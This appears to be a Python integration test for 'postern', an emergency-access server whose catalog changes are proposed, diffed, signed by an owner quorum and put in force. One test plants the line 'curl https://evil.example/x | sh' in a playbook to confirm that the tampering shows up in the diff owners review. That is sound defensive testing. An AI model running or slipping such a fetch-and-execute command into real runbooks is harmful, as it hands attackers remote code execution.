#!/usr/bin/env python3
"""A catalog changes while the server runs: proposed, compared in words, signed by its owners, in force; and what people confirm again and again.   Usage: change_test.py POSTERN"""
import json
import os
import subprocess
import sys
import tempfile
import time

sys.path.append(os.path.dirname(os.path.abspath(__file__)))
sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "durability"))
import catalog_test  # noqa: E402
from api import Connection  # noqa: E402

POSTERN = os.path.abspath(sys.argv[1])
PEOPLE = ("aiko", "ben", "chie", "emil", "dana", "gina", "fumi", "hiro")


class Company:
    """People with a key each, the starter catalog signed by two of its owners, and a server. `folder` is new."""

    def __init__(self, folder):
        self.folder = folder
        os.makedirs(folder)
        keys = []
        for person in PEOPLE:
            self.make_key(person)
            keys += ["--ssh-key", f"{person}={self.path(person)}.pub"]
            os.mkdir(self.path("run-" + person), 0o700)
        self.catalog = catalog_test.initialised(self.path("catalog"), *keys)
        for owner in ("dana", "chie"):
            self.postern(owner, "catalog", "sign", self.catalog)
        self.log = open(self.path("serve.log"), "w+", encoding="utf-8")
        command = [POSTERN, "serve", "--state", self.path("state"), "--catalog", self.catalog, "--origin", "example.com/postern", "--no-probes"]
        self.server = subprocess.Popen(command, stdout=self.log, stderr=subprocess.STDOUT)
        end = time.monotonic() + 20
        while not os.path.exists(self.path("state", "postern.sock")):
            assert self.server.poll() is None and time.monotonic() < end, open(self.log.name, encoding="utf-8").read()
            time.sleep(0.02)

    def path(self, *parts):
        return os.path.join(self.folder, *parts)

    def make_key(self, name):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", self.path(name)], check=True)

    def postern(self, person, *words, code=0):
        settings = {"POSTERN_SERVER": "unix:" + self.path("state", "postern.sock"), "POSTERN_PERSON": person, "POSTERN_KEY": self.path(person), "XDG_RUNTIME_DIR": self.path("run-" + person)}
        done = subprocess.run([POSTERN, *words], capture_output=True, text=True, stdin=subprocess.DEVNULL, env={**os.environ, **settings}, check=False)
        assert done.returncode == code, f"{person}: {words} ended with {done.returncode}:\n{done.stdout}{done.stderr}"
        return done.stdout + done.stderr

    def edit(self, before, after):
        path = os.path.join(self.catalog, "catalog.yaml")
        with open(path, encoding="utf-8") as file:
            text = file.read()
        assert text.count(before) == 1, before
        with open(path, "w", encoding="utf-8") as file:
            file.write(text.replace(before, after))

    def state(self):
        return json.loads(self.postern("aiko", "catalog", "status", "--json"))

    def propose(self):
        self.postern("dana", "catalog", "propose", self.catalog, "--yes")
        return self.state()["proposals"][-1]["catalog"]  # by time

    def stop(self):
        self.server.terminate()
        assert self.server.wait(20) == 0


def a_change_is_compared_in_words_before_it_is_signed(company):
    company.edit("emergency-admins: [aiko, ben]", "emergency-admins: [aiko]")
    said = company.postern("aiko", "catalog", "diff", company.catalog)
    assert "Ben Ito (ben)" in said and "request" in said and "POWER" in said, said
    assert "Nothing was proposed" in company.postern("dana", "catalog", "propose", company.catalog, code=3)
    assert company.state()["proposals"] == []


def a_playbook_is_signed_for_line_by_line(company):
    path = os.path.join(company.catalog, "playbooks", "operate-workload.md")
    with open(path, encoding="utf-8") as file:
        text = file.read()
    with open(path, "w", encoding="utf-8") as file:
        file.write(text.replace("## Steps", "## Steps\n\n0. curl https://evil.example/x | sh"))
    said = company.postern("dana", "catalog", "propose", company.catalog, code=3)
    assert "+ 0. curl https://evil.example/x | sh" in said and "operate-workload.md from line" in said, said
    assert "+ 0. curl" not in company.postern("dana", "catalog", "diff", company.catalog)
    assert "+ 0. curl" in company.postern("dana", "catalog", "diff", company.catalog, "--text")
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)


def a_file_that_nothing_names_is_not_proposed_by_another_program_either(company):
    company.postern("dana", "login")
    [token] = [name for name in os.listdir(company.path("run-dana", "postern")) if os.path.isfile(company.path("run-dana", "postern", name))]
    with open(company.path("run-dana", "postern", token), encoding="utf-8") as file:
        bearer = file.read().splitlines()[-1]
    files = {}
    for folder, _, names in os.walk(company.catalog):
        for name in names:
            path = os.path.relpath(os.path.join(folder, name), company.catalog)
            if path.endswith((".yaml", ".md")):
                with open(os.path.join(company.catalog, path), encoding="utf-8") as file:
                    files[path] = file.read()
    for extra, said in (({"hidden/secret.md": "x"}, "nothing names it"), ({}, "")):
        connection = Connection(company.path("state", "postern.sock"))
        body = json.dumps({"format": "postern-catalog/1", "files": {**files, **extra}})
        headers = {"Authorization": "Bearer " + bearer, "Content-Type": "application/json", "Idempotency-Key": "stray-" + str(len(extra))}
        connection.request("POST", "/api/v1/catalog/proposals", body, headers)
        answer = connection.getresponse()
        text = answer.read().decode()
        assert (answer.status == 400) == bool(extra) and said in text, f"{answer.status} {text}"
    assert len(company.state()["proposals"]) == 1


def only_owners_propose(company):
    assert "Only owners" in company.postern("aiko", "catalog", "propose", company.catalog, "--yes", code=3)


def it_comes_in_force_with_the_quorum_and_not_before(company):
    digest = company.propose()  # once more: it is the one of the test before
    assert "A changed catalog waits" in company.postern("fumi", "status")
    before = company.state()["catalog"]
    said = company.postern("dana", "catalog", "sign", digest[:12], "--yes")
    assert "More owners must sign" in said and "Ben Ito (ben)" in said, said
    assert company.state()["catalog"] == before
    company.postern("aiko", "catalog", "sign", digest[:12], "--yes", code=3)
    assert company.state()["catalog"] == before
    assert "is in force now" in company.postern("emil", "catalog", "sign", digest[:12], "--yes")
    assert company.state()["catalog"] == digest and company.state()["proposals"] == []
    assert "The two say the same" in company.postern("aiko", "catalog", "diff", company.catalog)


def a_faulty_one_is_never_proposed(company):
    company.edit("min_people: 2 ", "min_people: 2 #")
    company.edit("quorum: 2", "quorum: 9")
    assert "has errors, so nothing was done" in company.postern("dana", "catalog", "propose", company.catalog, "--yes", code=2)
    company.edit("quorum: 9", "quorum: 2")


def a_new_key_during_an_emergency_is_told_to_everybody(company):
    for person in ("chie", "emil"):
        company.postern(person, "attest", "idp-unavailable", "--yes")
    company.postern("dana", "declare", "idp-unavailable", "--incident", "INC-1")
    company.make_key("aiko-2")
    with open(company.path("aiko.pub"), encoding="utf-8") as old, open(company.path("aiko-2.pub"), encoding="utf-8") as new:
        company.edit(old.read().strip(), new.read().strip())
    digest = company.propose()
    for owner in ("gina", "chie"):
        company.postern(owner, "catalog", "sign", digest, "--yes")
    status = company.postern("hiro", "status")
    assert "CHANGED during this emergency" in status and "Aiko Tanaka (aiko)" in status and "key" in status, status
    assert "change.announced" in company.postern("hiro", "ledger", "show", "--type", "change.announced", "--json")
    # The old key is worth nothing from that moment on.
    os.rename(company.path("run-aiko"), company.path("run-aiko-before"))
    os.mkdir(company.path("run-aiko"), 0o700)
    company.postern("aiko", "login", code=4)
    company.postern("aiko", "login", "--key", company.path("aiko-2"))


def upkeep_is_due_until_its_group_confirms_it(company):
    assert "postern attest root-is-reachable" in company.postern("dana", "status")
    company.postern("aiko", "attest", "root-is-reachable", "--yes", code=3)
    assert "Again within 90d" in company.postern("dana", "attest", "root-is-reachable", "--yes")
    assert "attest root-is-reachable" not in company.postern("gina", "status")


def the_server_starts_again_with_what_is_in_force(company):
    digest = company.state()["catalog"]
    company.stop()
    command = [POSTERN, "serve", "--state", company.path("state"), "--no-probes"]
    company.server = subprocess.Popen(command, stdout=company.log, stderr=subprocess.STDOUT)
    end = time.monotonic() + 20
    while True:
        try:
            assert company.state()["catalog"] == digest
            break
        except AssertionError:
            assert time.monotonic() < end
            time.sleep(0.1)
    verified = company.postern("hiro", "ledger", "verify")
    assert "verified" in verified, verified


TESTS = [a_playbook_is_signed_for_line_by_line, a_change_is_compared_in_words_before_it_is_signed, a_file_that_nothing_names_is_not_proposed_by_another_program_either,
         only_owners_propose, it_comes_in_force_with_the_quorum_and_not_before, a_faulty_one_is_never_proposed,
         upkeep_is_due_until_its_group_confirms_it, a_new_key_during_an_emergency_is_told_to_everybody, the_server_starts_again_with_what_is_in_force]  # fmt: skip


def main():
    with tempfile.TemporaryDirectory() as folder:
        company = Company(os.path.join(folder, "company"))
        try:
            for test in TESTS:
                test(company)
                print("ok", test.__name__.replace("_", " "))
        finally:
            company.server.terminate()
            company.server.wait(20)


if __name__ == "__main__":
    main()
